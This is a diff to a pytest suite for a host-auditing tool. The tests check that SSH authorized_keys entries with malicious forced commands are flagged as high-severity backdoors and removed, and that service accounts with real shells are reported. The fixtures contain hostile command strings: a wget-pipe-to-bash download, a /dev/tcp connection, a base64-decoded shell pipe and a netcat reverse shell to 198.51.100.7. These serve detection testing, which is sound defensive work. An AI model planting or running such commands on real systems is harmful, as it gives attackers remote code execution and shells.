@@ -162,13 +162,86 @@ def test_stray_lines_are_deleted_and_pwck_agrees(tmp_path: Path, check_id: str, 
     assert findings(tree, check_id) == []
 
 
-@pytest.mark.parametrize("check_id", ["accounts.ssh_key_unusual"])
-def test_keys_are_the_owners_call(tmp_path: Path, check_id: str) -> None:
-    tree = build_tree(tmp_path / "host", HITS / check_id)
-    fixes = _fixes(tree, check_id)
-    assert len(fixes) == 2
-    for fix in fixes.values():
-        assert fix.steps == () and fix.manual is not None and "Only you know whether this key is yours" in fix.manual
+def test_keys_are_the_owners_call_unless_the_forced_command_is_a_backdoor(tmp_path: Path) -> None:
+    tree = build_tree(tmp_path / "host", HITS / "accounts.ssh_key_unusual")
+    found = {f.target["path"]: f for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]}
+    plain, backdoor = found["/etc/ssh/keys/root"], found["/home/alice/.ssh/authorized_keys"]
+    assert plain.remediation.steps == () and "Only you know whether this key is yours" in (plain.remediation.manual
+                                                                                             or "")
+    assert backdoor.severity == "high" and backdoor.evidence["forced_command_does"] == [
+        "downloads code (curl/wget/fetch)", "pipes something into a shell or interpreter"]
+    [step] = backdoor.remediation.steps
+    assert isinstance(step, DeleteLine) and (step.path, step.line) == ("/home/alice/.ssh/authorized_keys", 2)
+    apply(backdoor.remediation.steps, str(tree))
+    assert sorted(f.target["path"] for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]) == [
+        "/etc/ssh/keys/root"]
+
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGB9Hv2GPto6Ya1LYV6UUb5uExrNccRS+lYZV3cl9pnI"
+
+
+@pytest.mark.parametrize(("options", "severity", "does"), [
+    ('command="wget -qO- http://198.51.100.7/x | bash"', "high", ["downloads code (curl/wget/fetch)",
+                                                                 "pipes something into a shell or interpreter"]),
+    ('command="bash -c \'exec 3<>/dev/tcp/198.51.100.7/4444\'"', "high",
+     ["opens a network connection from the shell (/dev/tcp, /dev/udp)"]),
+    ('command="echo Y3VybA== | base64 -d | sh"', "high", ["pipes something into a shell or interpreter",
+                                                          "decodes hidden code (base64)"]),
+    ('command="nc -e /bin/sh 198.51.100.7 4444"', "high", ["runs a network shell (nc/ncat/socat/telnet)"]),
+    # near misses: ordinary forced commands and restrictions
+    ('command="/usr/bin/rrsync -ro /srv/backup",restrict', "info", []),
+    ('command="borg serve --restrict-to-path /srv/borg"', "info", []),
+    ('from="198.51.100.0/24"', "info", []),
+])
+def test_forced_command_that_runs_code_is_a_backdoor(tmp_path: Path, options: str, severity: str,
+                                                     does: list[str]) -> None:
+    tree = build_tree(tmp_path / "host")
+    keys = tree / "home/alice/.ssh/authorized_keys"
+    keys.parent.mkdir(parents=True, exist_ok=True)
+    keys.write_text(f"{options} {KEY} alice@laptop\n")
+    [finding] = run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]
+    assert (finding.severity, finding.evidence["forced_command_does"]) == (severity, does)
+
+
+def test_from_star_restricts_nothing(tmp_path: Path) -> None:
+    tree = build_tree(tmp_path / "host")
+    keys = tree / "home/alice/.ssh/authorized_keys"
+    keys.parent.mkdir(parents=True, exist_ok=True)
+    keys.write_text(f'from="*" {KEY} alice@laptop\nfrom="*,!198.51.100.9" {KEY} alice@desk\n')
+    titles = [f.title for f in run_one("accounts.ssh_key_unusual", RootHost(str(tree)))[0]]
+    assert 'from="*" allows every address (restricts nothing)' in titles[0]
+    assert "restricts nothing" not in titles[1] and 'from="*,!198.51.100.9"' in titles[1]
+
+
+@pytest.mark.parametrize(("shadow", "keys", "severity", "locks"), [
+    ("!$6$saltsalt$x", False, "low", False),    # locked password, no key: su, cron, a webshell's planted key
+    ("!$6$saltsalt$x", True, "medium", False),  # locked password but a key sshd may accept
+    ("$6$saltsalt$x", False, "medium", True),   # a password
+])
+def test_service_account_with_a_shell(tmp_path: Path, shadow: str, keys: bool, severity: str, locks: bool) -> None:
+    tree = build_tree(tmp_path / "host")
+    for name, old, new in (("passwd", "/var/www:/usr/sbin/nologin", "/var/www:/bin/sh"),
+                           ("shadow", "www-data:*:", f"www-data:{shadow}:")):
+        path = tree / "etc" / name
+        path.write_text(path.read_text().replace(old, new))
+    if keys:
+        (tree / "var/www/.ssh").mkdir(parents=True)
+        (tree / "var/www/.ssh/authorized_keys").write_text(f"{KEY} deploy@ci\n")
+    [finding] = run_one("accounts.service_shell", RootHost(str(tree)))[0]
+    assert finding.severity == severity
+    assert [s.argv[:2] for s in finding.remediation.steps if isinstance(s, Command)] == (
+        [("usermod", "-s"), ("usermod", "-L")] if locks else [("usermod", "-s")])
+    assert ("/var/www/.ssh/authorized_keys:1" in finding.remediation.summary) == keys
+
+
+@pytest.mark.parametrize("shell", ["/usr/sbin/nologin", "/bin/false", "/bin/sync", "/sbin/shutdown", "/sbin/halt"])
+def test_service_account_without_a_real_shell_is_quiet(tmp_path: Path, shell: str) -> None:
+    tree = build_tree(tmp_path / "host")
+    for name, old, new in (("passwd", "/var/www:/usr/sbin/nologin", f"/var/www:{shell}"),
+                           ("shadow", "www-data:*:", "www-data:$6$saltsalt$x:")):
+        path = tree / "etc" / name
+        path.write_text(path.read_text().replace(old, new))
+    assert run_one("accounts.service_shell", RootHost(str(tree)))[0] == []
 
 
 def test_duplicate_names_are_the_owners_call(tmp_path: Path) -> None:
